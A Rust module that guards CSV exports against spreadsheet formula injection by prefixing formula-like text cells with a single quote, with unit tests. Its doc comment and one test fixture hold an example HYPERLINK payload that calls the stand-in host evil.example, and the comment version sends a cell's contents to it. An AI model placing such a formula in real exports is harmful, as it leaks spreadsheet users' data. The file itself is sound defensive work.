//! Keeps spreadsheets from running what people typed: a CSV cell that begins
//! with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
//! by Excel, LibreOffice and Google Sheets, so a request titled
//! `=HYPERLINK("http://evil.example/?"&A1, "Open")` would act in the reader's
//! spreadsheet.
//!
//! Every CSV export writes its rows through [`Guarded`], which prefixes such
//! a *text* cell with a single quote, as OWASP recommends. Cells we serialize
//! as numbers (ids, minutes, means, a negative gap such as `-0.5`) are left
//! as they are: they were never text a person typed, they parse entirely as
//! numbers, and a spreadsheet must still be able to add them up. Text that
//! merely looks like a number (a title `-5`) is still text and is prefixed.

use serde::ser::{Serialize, SerializeStruct, Serializer};

/// The characters that make a spreadsheet treat a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text`, prefixed with `'` when a spreadsheet would read it as a formula.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// A row (or a field of one) whose text cells are neutralised as it is
/// serialized; numbers, booleans and empty cells pass through unchanged.
#[derive(Debug)]
pub struct Guarded<'a, T: ?Sized>(pub &'a T);

impl<T: Serialize + ?Sized> Serialize for Guarded<'_, T> {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        self.0.serialize(GuardingSerializer(serializer))
    }
}

struct GuardingSerializer<S>(S);

struct GuardingStruct<S>(S);

impl<S: SerializeStruct> SerializeStruct for GuardingStruct<S> {
    type Ok = S::Ok;
    type Error = S::Error;

    fn serialize_field<T: Serialize + ?Sized>(
        &mut self,
        key: &'static str,
        value: &T,
    ) -> Result<(), Self::Error> {
        self.0.serialize_field(key, &Guarded(value))
    }

    fn skip_field(&mut self, key: &'static str) -> Result<(), Self::Error> {
        self.0.skip_field(key)
    }

    fn end(self) -> Result<Self::Ok, Self::Error> {
        self.0.end()
    }
}

impl<S: Serializer> Serializer for GuardingSerializer<S> {
    type Ok = S::Ok;
    type Error = S::Error;
    type SerializeSeq = S::SerializeSeq;
    type SerializeTuple = S::SerializeTuple;
    type SerializeTupleStruct = S::SerializeTupleStruct;
    type SerializeTupleVariant = S::SerializeTupleVariant;
    type SerializeMap = S::SerializeMap;
    type SerializeStruct = GuardingStruct<S::SerializeStruct>;
    type SerializeStructVariant = S::SerializeStructVariant;

    fn serialize_str(self, value: &str) -> Result<S::Ok, S::Error> {
        self.0.serialize_str(&neutralise(value))
    }

    fn serialize_char(self, value: char) -> Result<S::Ok, S::Error> {
        let mut buffer = [0; 4];
        self.serialize_str(value.encode_utf8(&mut buffer))
    }

    fn serialize_some<T: Serialize + ?Sized>(self, value: &T) -> Result<S::Ok, S::Error> {
        self.0.serialize_some(&Guarded(value))
    }

    fn serialize_newtype_struct<T: Serialize + ?Sized>(
        self,
        name: &'static str,
        value: &T,
    ) -> Result<S::Ok, S::Error> {
        self.0.serialize_newtype_struct(name, &Guarded(value))
    }

    fn serialize_unit_variant(
        self,
        name: &'static str,
        index: u32,
        variant: &'static str,
    ) -> Result<S::Ok, S::Error> {
        self.0.serialize_unit_variant(name, index, variant)
    }

    fn serialize_struct(
        self,
        name: &'static str,
        len: usize,
    ) -> Result<Self::SerializeStruct, S::Error> {
        self.0.serialize_struct(name, len).map(GuardingStruct)
    }

    fn serialize_bool(self, value: bool) -> Result<S::Ok, S::Error> {
        self.0.serialize_bool(value)
    }
    fn serialize_i8(self, value: i8) -> Result<S::Ok, S::Error> {
        self.0.serialize_i8(value)
    }
    fn serialize_i16(self, value: i16) -> Result<S::Ok, S::Error> {
        self.0.serialize_i16(value)
    }
    fn serialize_i32(self, value: i32) -> Result<S::Ok, S::Error> {
        self.0.serialize_i32(value)
    }
    fn serialize_i64(self, value: i64) -> Result<S::Ok, S::Error> {
        self.0.serialize_i64(value)
    }
    fn serialize_u8(self, value: u8) -> Result<S::Ok, S::Error> {
        self.0.serialize_u8(value)
    }
    fn serialize_u16(self, value: u16) -> Result<S::Ok, S::Error> {
        self.0.serialize_u16(value)
    }
    fn serialize_u32(self, value: u32) -> Result<S::Ok, S::Error> {
        self.0.serialize_u32(value)
    }
    fn serialize_u64(self, value: u64) -> Result<S::Ok, S::Error> {
        self.0.serialize_u64(value)
    }
    fn serialize_f32(self, value: f32) -> Result<S::Ok, S::Error> {
        self.0.serialize_f32(value)
    }
    fn serialize_f64(self, value: f64) -> Result<S::Ok, S::Error> {
        self.0.serialize_f64(value)
    }
    fn serialize_bytes(self, value: &[u8]) -> Result<S::Ok, S::Error> {
        self.0.serialize_bytes(value)
    }
    fn serialize_none(self) -> Result<S::Ok, S::Error> {
        self.0.serialize_none()
    }
    fn serialize_unit(self) -> Result<S::Ok, S::Error> {
        self.0.serialize_unit()
    }
    fn serialize_unit_struct(self, name: &'static str) -> Result<S::Ok, S::Error> {
        self.0.serialize_unit_struct(name)
    }
    fn serialize_newtype_variant<T: Serialize + ?Sized>(
        self,
        name: &'static str,
        index: u32,
        variant: &'static str,
        value: &T,
    ) -> Result<S::Ok, S::Error> {
        self.0
            .serialize_newtype_variant(name, index, variant, &Guarded(value))
    }
    fn serialize_seq(self, len: Option<usize>) -> Result<S::SerializeSeq, S::Error> {
        self.0.serialize_seq(len)
    }
    fn serialize_tuple(self, len: usize) -> Result<S::SerializeTuple, S::Error> {
        self.0.serialize_tuple(len)
    }
    fn serialize_tuple_struct(
        self,
        name: &'static str,
        len: usize,
    ) -> Result<S::SerializeTupleStruct, S::Error> {
        self.0.serialize_tuple_struct(name, len)
    }
    fn serialize_tuple_variant(
        self,
        name: &'static str,
        index: u32,
        variant: &'static str,
        len: usize,
    ) -> Result<S::SerializeTupleVariant, S::Error> {
        self.0.serialize_tuple_variant(name, index, variant, len)
    }
    fn serialize_map(self, len: Option<usize>) -> Result<S::SerializeMap, S::Error> {
        self.0.serialize_map(len)
    }
    fn serialize_struct_variant(
        self,
        name: &'static str,
        index: u32,
        variant: &'static str,
        len: usize,
    ) -> Result<S::SerializeStructVariant, S::Error> {
        self.0.serialize_struct_variant(name, index, variant, len)
    }
    fn is_human_readable(&self) -> bool {
        self.0.is_human_readable()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(serde::Serialize)]
    struct Row {
        title: String,
        note: Option<String>,
        gap: f64,
        minutes: i64,
        plain: &'static str,
    }

    fn csv_of(rows: &[Row]) -> String {
        let mut writer = csv::Writer::from_writer(Vec::new());
        for row in rows {
            writer.serialize(Guarded(row)).unwrap_or_default();
        }
        String::from_utf8(writer.into_inner().unwrap_or_default()).unwrap_or_default()
    }

    #[test]
    fn text_starting_like_a_formula_is_prefixed_and_numbers_are_not() {
        let csv = csv_of(&[Row {
            title: "=HYPERLINK(\"http://evil.example\")".to_owned(),
            note: Some("@SUM(A1)".to_owned()),
            gap: -0.5,
            minutes: -3,
            plain: "-5",
        }]);
        let mut lines = csv.lines();
        assert_eq!(lines.next(), Some("title,note,gap,minutes,plain"));
        assert_eq!(
            lines.next(),
            Some("\"'=HYPERLINK(\"\"http://evil.example\"\")\",'@SUM(A1),-0.5,-3,'-5")
        );
    }

    #[test]
    fn every_formula_start_is_neutralised_and_ordinary_text_kept() {
        for start in FORMULA_STARTS {
            let text = format!("{start}1+1");
            assert_eq!(neutralise(&text), format!("'{text}"));
        }
        assert_eq!(neutralise("Finance"), "Finance");
        assert_eq!(neutralise(""), "");
        assert_eq!(neutralise("a=b"), "a=b");
    }
}
